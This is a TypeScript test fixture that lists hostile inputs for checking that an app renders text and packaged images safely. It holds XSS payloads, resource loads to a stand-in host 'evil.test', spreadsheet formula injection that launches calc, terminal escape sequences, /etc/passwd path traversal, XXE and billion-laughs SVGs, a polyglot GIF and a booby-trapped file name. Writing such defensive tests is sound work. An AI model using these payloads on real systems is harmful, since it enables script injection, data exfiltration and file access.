/** A text that tries to be more than a text. */
export interface Attack {
  readonly name: string;
  readonly text: string;
  /** Whether a page that took the text for markup would run it or ask the network: the test of the tests. */
  readonly bites: boolean;
}

/** Whatever would be asked for from here has left the app. No such name exists. */
export const EVIL = 'http://evil.test';

/** What a script of an attack does where it is run. */
const hit = (name: string) => `(window.__hit=window.__hit||[]).push('${name}')`;

const bites = (name: string, text: string): Attack => ({ name, text, bites: true });
const still = (name: string, text: string): Attack => ({ name, text, bites: false });

/** Texts against a page: what browsers run or fetch where a text is put into a page as markup. */
const MARKUP: readonly Attack[] = [
  bites('script', `<script>${hit('script')};alert('script')</script>`),
  bites('script-src', `<script src="${EVIL}/script.js"></script>`),
  bites('script-after-end', `</title></textarea></style></script><script>${hit('script-after-end')}</script>`),
  bites('img-onerror', `<img src="data:," onerror="${hit('img-onerror')};alert(1)">`),
  bites('svg-onload', `<svg onload="${hit('svg-onload')}"></svg>`),
  bites('details-ontoggle', `<details open ontoggle="${hit('details-ontoggle')}">x</details>`),
  bites('focus', `<input autofocus onfocus="${hit('focus')}">`),
  bites('double-quote', `"><img src="${EVIL}/double-quote"><p title="`),
  bites('single-quote', `'><img src='${EVIL}/single-quote'><p title='`),
  bites(
    'iframe-srcdoc',
    `<iframe srcdoc="<script>(parent.__hit=parent.__hit||[]).push('iframe-srcdoc')</script>"></iframe>`,
  ),
  bites('iframe-src', `<iframe src="${EVIL}/frame"></iframe>`),
  bites(
    'iframe-javascript',
    `<iframe src="javascript:(parent.__hit=parent.__hit||[]).push('iframe-javascript')"></iframe>`,
  ),
  bites('object', `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`),
  bites('style-import', `<style>@import url("${EVIL}/import.css");</style>`),
  bites('style-url', `<style>body{background:url("${EVIL}/style-url")}</style>`),
  bites('style-attribute', `<p style="background:url('${EVIL}/style-attribute')">x</p>`),
  bites('style-end', `"; } body { } </style><img src="${EVIL}/style-end"><style>p { content: "`),
  still('css-value', `red; background: url(${EVIL}/css-value); } * { background: url(${EVIL}/css-value-2) } /*`),
  bites('link-stylesheet', `<link rel="stylesheet" href="${EVIL}/link.css">`),
  bites(
    'link-preload',
    `<link rel="preload" as="image" href="${EVIL}/preload"><link rel="prefetch" href="${EVIL}/prefetch">`,
  ),
  bites('meta-refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`),
  bites('base', `<base href="${EVIL}/"><img src="base">`),
  still('form', `<form action="${EVIL}/form" id="f"><input name="pin"></form><button form="f">Hand back</button>`),
  bites('img-remote', `<img src="${EVIL}/img"><img srcset="${EVIL}/srcset 1x">`),
  bites(
    'media-remote',
    `<video src="${EVIL}/video" poster="${EVIL}/poster"></video><audio src="${EVIL}/audio" autoplay></audio>`,
  ),
  bites('svg-image', `<svg><image href="${EVIL}/svg-image"></image><use href="${EVIL}/use.svg#x"></use></svg>`),
  bites(
    'svg-foreign',
    `<svg><foreignObject><img src="${EVIL}/foreign" xmlns="http://www.w3.org/1999/xhtml"></foreignObject></svg>`,
  ),
  bites('svg-animate', `<svg><animate onbegin="${hit('svg-animate')}" attributeName="x" dur="1s"></animate></svg>`),
  still(
    'math',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${EVIL}/math onerror=${hit('math')}&gt;">`,
  ),
  still('a-javascript', `<a href="javascript:${hit('a-javascript')}">javascript:${hit('a-javascript')}</a>`),
  still(
    'a-data',
    `<a href="data:text/html,<script>opener.${hit('a-data')}</script>" ping="${EVIL}/ping">data:text/html,x</a>`,
  ),
  still(
    'entities',
    `&lt;img src=x onerror=&quot;${hit('entities')}&quot;&gt; &#60;script&#62;${hit('entities')}&#60;/script&#62; &amp;lt;`,
  ),
  // Bites only where something follows that closes it; `style-end` and the like do so in the next text.
  still('half-open', `<img src="${EVIL}/half-open" alt="`),
  bites('comment-end', `--><img src="${EVIL}/comment-end"><!-- ]]><![CDATA[`),
  still(
    'template',
    `{{constructor.constructor("${hit('template')}")()}} \${${hit('template')}} <%= 1 %> #{1} $t(common:cancel) {{title}}`,
  ),
  still('markdown', `![x](${EVIL}/markdown) [x](javascript:${hit('markdown')}) ${EVIL}/autolink`),
];

/** Texts against a reader, a terminal, a spreadsheet or a file system: they must be harmless, and the app stay usable. */
const PLAIN: readonly Attack[] = [
  still(
    'bidi',
    'Police \u202Enoissimmoc eht ton\u202C \u2066isolated \u2067turned\u2069 and never closed \u202E\u2067 end',
  ),
  still('zero-width', 'Ze\u200Bro\u200Cwi\u200Ddth\u2060\uFEFF\u00AD word\u034F'),
  still('marks', `Z${'\u0300\u0316\u0338\u20DD'.repeat(60)}algo`),
  still('long-word', 'W'.repeat(4_000)),
  still('many-lines', `First${'\n\n\n'.repeat(200)}Last`),
  still('null', 'Before\u0000after\u0001\u0008\u007F\u0085\u009F end'),
  still('surrogates', 'Half \uD83D of a pair \uDE00, 😀 and \uFFFE\uFFFF'),
  still('separators', 'One\u2028two\u2029three\u000Bfour\u000Cfive'),
  still(
    'ansi',
    '\u001B[2J\u001B[31mred\u001B]0;owned\u0007\u001B]52;c;ZXZpbA==\u0007\u001B]8;;http://evil.test\u0007x\u001B]8;;\u0007\u009B31m\r\u0008',
  ),
  still('formula-equals', `=cmd|' /C calc'!A0`),
  still('formula-others', `+HYPERLINK("${EVIL}/formula","x")\n@SUM(1+1)*cmd\n-2+3\n\t=1+1`),
  still('path', '../../../../etc/passwd\\..\\..\\windows\\system32\\CON.txt:stream?*<>|"'),
  still('names', '__proto__ constructor toString undefined null [object Object] NaN'),
  still('dots', '.'),
];

export const ATTACKS: readonly Attack[] = [...MARKUP, ...PLAIN];

/** One that bites whatever field cuts it: names of people take 80 letters. */
export const SHORT = '<img src=x onerror="window.__hit=[1]">';

const picture = (name: string, inside: string) => ({
  name,
  svg: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${inside}</svg>`,
});

/** Pictures that a browser runs, or that make it ask others, where it takes them for a part of the page. */
export const PICTURES = [
  picture('script', `<script>${hit('picture-script')}</script>`),
  picture('onbegin', `<g><animate onbegin="${hit('picture-onbegin')}" attributeName="x" dur="1s"/></g>`),
  picture(
    'foreignObject',
    `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/picture-foreign"/></foreignObject>`,
  ),
  picture('image', `<image href="${EVIL}/picture-image" width="9" height="9"/>`),
  picture(
    'use',
    `<use href="${EVIL}/picture-use.svg#x"/><image xlink:href="${EVIL}/picture-xlink" width="9" height="9"/>`,
  ),
  picture(
    'style',
    `<style>@import url("${EVIL}/picture-import.css"); rect { fill: url("${EVIL}/picture-fill.svg#x") }</style><rect width="9" height="9"/>`,
  ),
];

/** Pictures by their first bytes that are programs in another language besides. No browser can show them. */
export const HALF_PICTURES = [
  { name: 'polyglot.gif', text: `GIF89a/*<script>${hit('polyglot')}</script>*/=1;${hit('polyglot')}` },
] as const;

/** Files that a package may not bring as pictures, with what is said of them. */
export const REFUSED_PICTURES = [
  {
    name: 'media/entity.svg',
    text: `<!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}/entity">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`,
    why: 'media/entity.svg is no picture of that kind, whatever its name says.',
  },
  {
    name: 'media/billion.svg',
    text: '<!-- x --><svg xmlns="http://www.w3.org/2000/svg"><!ENTITY a "aaaa"><text>&a;</text></svg>',
    why: 'media/billion.svg is no picture of that kind, whatever its name says.',
  },
  {
    name: 'media/page.svg',
    text: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${hit('page-svg')}</script></html>`,
    why: 'media/page.svg is no picture of that kind, whatever its name says.',
  },
  {
    name: 'media/page.png',
    text: `<html><script>${hit('page-png')}</script></html>`,
    why: 'media/page.png is no picture of that kind, whatever its name says.',
  },
  {
    name: 'media/page.html',
    text: `<script>${hit('page-html')}</script>`,
    why: 'media/page.html is no picture that an exercise can name',
  },
  {
    name: `media/<img src=x onerror="${hit('file-name')}">.svg`,
    text: '<svg xmlns="http://www.w3.org/2000/svg"/>',
    why: `.svg is no picture that an exercise can name`,
  },
  {
    name: 'media/../../out.svg',
    text: '<svg xmlns="http://www.w3.org/2000/svg"/>',
    why: 'Pack it again',
  },
] as const;
